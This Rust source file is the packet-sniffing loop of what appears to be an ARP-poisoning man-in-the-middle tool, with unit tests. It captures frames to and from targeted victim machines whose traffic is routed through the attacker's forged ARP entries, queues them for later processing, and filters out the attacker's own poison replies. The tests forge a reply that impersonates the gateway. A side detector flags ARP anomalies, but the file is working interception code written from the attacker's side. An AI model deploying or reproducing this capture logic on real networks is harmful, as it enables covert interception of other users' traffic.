//! The promiscuous sniff loop.
//!
//! Reads every frame on the interface, decides whether it belongs to the
//! session, and publishes matches to the bounded queue. The same stream
//! feeds the ARP anomaly detector. The short receive timeout keeps the loop
//! responsive to the shutdown flag; the multicast filter keeps the capture
//! path focused on unicast that actually flows through the poisoned route;
//! and the attacker's own forged replies are suppressed to avoid feedback.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

use pnet::util::MacAddr;

use crate::capture::link::LinkRx;
use crate::capture::queue::{CapturedFrame, FrameQueue, Timestamp};
use crate::capture::{EventSink, SessionEvent};
use crate::config;
use crate::core::detect::{ArpDetector, ArpEvent};
use crate::core::targets::TargetTable;
use crate::error::Result;

fn mac_at(frame: &[u8], offset: usize) -> MacAddr {
    MacAddr::new(
        frame[offset],
        frame[offset + 1],
        frame[offset + 2],
        frame[offset + 3],
        frame[offset + 4],
        frame[offset + 5],
    )
}

/// True for the attacker's own poisoning traffic (source MAC ours and
/// EtherType ARP), which must never re-surface as a capture.
fn is_own_arp(frame: &[u8], attacker_mac: MacAddr) -> bool {
    frame.len() >= 14
        && mac_at(frame, 6) == attacker_mac
        && u16::from_be_bytes([frame[12], frame[13]]) == 0x0806
}

/// The full capture filter. Returns the matched target index when the frame
/// should be surfaced:
/// frames shorter than an Ethernet header, multicast/broadcast
/// destinations, frames touching no active target, and our own forged ARP
/// are all rejected.
pub fn capture_target(
    frame: &[u8],
    targets: &TargetTable,
    attacker_mac: MacAddr,
) -> Option<usize> {
    if frame.len() < 14 {
        return None;
    }
    // Multicast bit: LSB of the first destination-MAC byte.
    if frame[0] & 0x01 != 0 {
        return None;
    }
    if is_own_arp(frame, attacker_mac) {
        return None;
    }
    let dst = mac_at(frame, 0);
    let src = mac_at(frame, 6);
    targets
        .find_by_mac(src)
        .or_else(|| targets.find_by_mac(dst))
}

/// Run the sniff loop until shutdown. Transient receive errors are logged
/// and retried; [`config::RECV_ERROR_LIMIT`] consecutive hard errors abort
/// the loop so the coordinator can escalate.
pub fn run_sniff_loop(
    mut rx: LinkRx,
    targets: Arc<TargetTable>,
    attacker_mac: MacAddr,
    queue: Arc<FrameQueue>,
    events: EventSink,
    shutdown: Arc<AtomicBool>,
) -> Result<()> {
    let mut detector = ArpDetector::new();
    let debug_every = if targets.len() > config::POISON_INTERVAL_THRESHOLD {
        config::SNIFF_DEBUG_INTERVAL_LARGE
    } else {
        config::SNIFF_DEBUG_INTERVAL
    };
    let mut processed = 0u64;
    let mut consecutive_errors = 0u32;

    tracing::info!("sniffer started, monitoring {} target(s)", targets.len());

    while !shutdown.load(Ordering::Relaxed) {
        let frame = match rx.recv_frame() {
            Ok(Some(frame)) => {
                consecutive_errors = 0;
                frame
            }
            Ok(None) => continue,
            Err(e) => {
                consecutive_errors += 1;
                if shutdown.load(Ordering::Relaxed) {
                    break;
                }
                tracing::warn!("recv error ({consecutive_errors} in a row): {e}");
                if consecutive_errors >= config::RECV_ERROR_LIMIT {
                    tracing::error!("persistent recv failure, sniffer giving up");
                    return Err(e);
                }
                continue;
            }
        };

        if frame.len() < 14 {
            continue;
        }

        processed += 1;
        if processed % debug_every == 0 {
            tracing::debug!(
                "processed {processed} frames, queued {}, dropped {}",
                queue.len(),
                queue.dropped()
            );
        }

        // Never let our own poisoning feed the detector or the consumers.
        if is_own_arp(&frame, attacker_mac) {
            continue;
        }

        if let Some(ev) = ArpEvent::from_frame(&frame) {
            for alert in detector.observe(&ev) {
                tracing::info!("{alert}");
                events(SessionEvent::Alert(alert));
            }
        }

        if let Some(index) = capture_target(&frame, &targets, attacker_mac) {
            queue.push(CapturedFrame {
                bytes: frame,
                captured_at: Timestamp::now(),
                target_index: index as u32,
            });
        }
    }

    tracing::info!("sniffer exited cleanly after {processed} frames");
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::capture::poisoner::build_poison_frame;
    use crate::inventory::{Device, ScanResult};
    use std::net::Ipv4Addr;

    const ATTACKER: MacAddr = MacAddr(0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff);
    const VICTIM: MacAddr = MacAddr(0x11, 0x22, 0x33, 0x44, 0x55, 0x66);

    fn table() -> TargetTable {
        let scan = ScanResult {
            devices: vec![Device {
                ip: Ipv4Addr::new(192, 168, 1, 42),
                mac: VICTIM,
                is_gateway: false,
            }],
            gateway_ip: Ipv4Addr::new(192, 168, 1, 1),
            interface: "eth0".into(),
        };
        TargetTable::install(&scan, &[0])
    }

    fn frame_between(dst: MacAddr, src: MacAddr, ethertype: u16) -> Vec<u8> {
        let mut frame = vec![0u8; 60];
        frame[0..6].copy_from_slice(&[dst.0, dst.1, dst.2, dst.3, dst.4, dst.5]);
        frame[6..12].copy_from_slice(&[src.0, src.1, src.2, src.3, src.4, src.5]);
        frame[12..14].copy_from_slice(&ethertype.to_be_bytes());
        frame
    }

    #[test]
    fn test_frame_from_target_is_captured() {
        let targets = table();
        let frame = frame_between(MacAddr(2, 2, 2, 2, 2, 2), VICTIM, 0x0800);
        assert_eq!(capture_target(&frame, &targets, ATTACKER), Some(0));
    }

    #[test]
    fn test_frame_to_target_is_captured() {
        let targets = table();
        let frame = frame_between(VICTIM, MacAddr(2, 2, 2, 2, 2, 2), 0x0800);
        assert_eq!(capture_target(&frame, &targets, ATTACKER), Some(0));
    }

    #[test]
    fn test_unrelated_frame_is_skipped() {
        let targets = table();
        let frame = frame_between(
            MacAddr(2, 2, 2, 2, 2, 2),
            MacAddr(3, 3, 3, 3, 3, 3),
            0x0800,
        );
        assert_eq!(capture_target(&frame, &targets, ATTACKER), None);
    }

    #[test]
    fn test_multicast_destination_is_skipped() {
        let targets = table();
        // Broadcast and multicast both carry the LSB of the first byte.
        let bcast = frame_between(MacAddr::broadcast(), VICTIM, 0x0800);
        assert_eq!(capture_target(&bcast, &targets, ATTACKER), None);
        let mcast = frame_between(MacAddr(0x01, 0, 0x5e, 0, 0, 1), VICTIM, 0x0800);
        assert_eq!(capture_target(&mcast, &targets, ATTACKER), None);
    }

    #[test]
    fn test_own_forged_reply_is_suppressed() {
        // The hairpinned copy of our own poison: dst is target 0's MAC, so
        // it would otherwise match, but source MAC + ARP means it is ours.
        let targets = table();
        let frame = build_poison_frame(
            ATTACKER,
            Ipv4Addr::new(192, 168, 1, 1),
            VICTIM,
            Ipv4Addr::new(192, 168, 1, 42),
        );
        assert_eq!(capture_target(&frame, &targets, ATTACKER), None);
    }

    #[test]
    fn test_attacker_non_arp_traffic_to_target_is_captured() {
        let targets = table();
        let frame = frame_between(VICTIM, ATTACKER, 0x0800);
        assert_eq!(capture_target(&frame, &targets, ATTACKER), Some(0));
    }

    #[test]
    fn test_thirteen_byte_frame_rejected() {
        let targets = table();
        assert_eq!(capture_target(&[0u8; 13], &targets, ATTACKER), None);
    }

    #[test]
    fn test_fourteen_byte_frame_accepted() {
        let targets = table();
        let mut frame = frame_between(VICTIM, MacAddr(2, 2, 2, 2, 2, 2), 0x0800);
        frame.truncate(14);
        assert_eq!(capture_target(&frame, &targets, ATTACKER), Some(0));
    }

    #[test]
    fn test_deactivated_target_not_captured() {
        let targets = table();
        targets.deactivate_all();
        let frame = frame_between(MacAddr(2, 2, 2, 2, 2, 2), VICTIM, 0x0800);
        assert_eq!(capture_target(&frame, &targets, ATTACKER), None);
    }
}
